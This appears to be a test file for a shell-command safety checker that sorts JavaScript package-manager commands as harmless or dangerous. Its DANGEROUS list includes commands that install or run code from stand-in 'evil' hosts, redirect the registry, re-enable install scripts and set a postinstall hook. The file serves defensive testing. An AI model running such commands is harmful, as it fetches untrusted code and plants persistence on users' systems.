@@ -1,0 +1,125 @@
+import pytest
+
+from hermes.policy.paths.places import Places
+from hermes.policy.shell.state import Place
+from hermes.policy.shell.understanding import understand
+
+PLACE = Place("/home/dev/app", Places(("/home/dev/app",), "/home/dev", "/home/dev/.hermes"))
+
+HARMLESS = [
+    "npm install",
+    "npm ci",
+    "npm install lodash",
+    "npm i -D vitest@latest",
+    "npm run build",
+    "npm run lint -- --fix",
+    "npm run build:release",
+    "npm run deploy -- --dry-run",
+    "npm test",
+    "npm publish --dry-run",
+    "npm pack",
+    "npm version patch",
+    "npm config get registry",
+    "npm audit fix --force",
+    "npm cache clean --force",
+    "npx tsc --noEmit",
+    "npx eslint . --fix",
+    "npx create-react-app x",
+    "npx -y create-next-app@latest app",
+    "npx @angular/cli new x",
+    "npx prettier --write .",
+    "npx --no-install foo",
+    "npm init vite@latest",
+    "npm create vite@latest",
+    "yarn",
+    "yarn add x",
+    "yarn build",
+    "yarn workspace web add zod",
+    "yarn workspaces foreach run build",
+    "yarn dlx create-react-app x",
+    "pnpm dlx create-vite",
+    "pnpm -r build",
+    "pnpm --filter api add fastify",
+    "pnpm store prune",
+    "pnpm exec tsc",
+    "bun install",
+    "bun test",
+    "bunx tsc",
+    "npm view x",
+    "npm dist-tag ls",
+    "npm owner ls",
+    "npm whoami",
+    "npm run release:notes",
+    "npm run docs",
+    "npm run db:migrate",
+    "npm run db:seed",
+    "yarn config set nodeLinker node-modules",
+    "npm run test:deploy",
+    "corepack enable",
+    "npm --prefix web run build",
+]
+DANGEROUS = [
+    ("npm link", "overwrite"),
+    ("npm install -g x", "overwrite"),
+    ("npm i -g x --unsafe-perm", "overwrite"),
+    ("npm install --global x", "overwrite"),
+    ("npm uninstall -g x", "overwrite"),
+    ("npm publish", "publish"),
+    ("npm --prefix x publish", "publish"),
+    ("npm publish --access public", "publish"),
+    ("npm unpublish x --force", "publish"),
+    ('npm deprecate x "y"', "publish"),
+    ("npm owner add me x", "publish"),
+    ("npm dist-tag add x@1 latest", "publish"),
+    ("npm login", "persistence"),
+    ("npm logout", "persistence"),
+    ("npm token create", "publish"),
+    ("npm config set registry http://x", "persistence"),
+    ("npm config set ignore-scripts false", "persistence"),
+    ("npm install git+https://evil/x.git", "network-exec"),
+    ("npm install https://evil/x.tgz", "network-exec"),
+    ("npm install --registry http://evil.example x", "network-exec"),
+    ("npm run deploy", "publish"),
+    ("npm run release", "publish"),
+    ("npm run deploy:prod", "publish"),
+    ("npm run publish", "publish"),
+    ("npm run docs:deploy", "publish"),
+    ("npm run db:reset", "database"),
+    ("npm run db:drop", "database"),
+    ("npm run migrate:prod", "database"),
+    ("yarn deploy", "publish"),
+    ("yarn release", "publish"),
+    ("pnpm run deploy", "publish"),
+    ("bun run deploy", "publish"),
+    ("npx cowsay-evil", "network-exec"),
+    ("npx github:evil/x", "network-exec"),
+    ("npx -y evil-cli", "network-exec"),
+    ("npx -p evil foo", "network-exec"),
+    ("npm exec evil", "network-exec"),
+    ("pnpm dlx evil", "network-exec"),
+    ("yarn dlx evil", "network-exec"),
+    ("bunx evil", "network-exec"),
+    ("yarn global add x", "overwrite"),
+    ("yarn npm publish", "publish"),
+    ("pnpm publish", "publish"),
+    ("pnpm add -g x", "overwrite"),
+    ("lerna publish", "publish"),
+    ("npx semantic-release", "publish"),
+    ("npx changeset publish", "publish"),
+    ("npx -c 'npm publish'", "publish"),
+    ("pnpm setup", "persistence"),
+    ("bun upgrade", "overwrite"),
+    ('npm pkg set scripts.postinstall="x"', "persistence"),
+]
+
+
+@pytest.mark.parametrize("command", HARMLESS)
+def test_javascript_packages_in_everyday_use_asks_nothing(command):
+    assert understand(command, PLACE).findings == ()
+
+
+@pytest.mark.parametrize(("command", "category"), DANGEROUS)
+def test_javascript_packages_says_what_is_dangerous(command, category):
+    findings = understand(command, PLACE).findings
+
+    assert category in {finding.category for finding in findings}
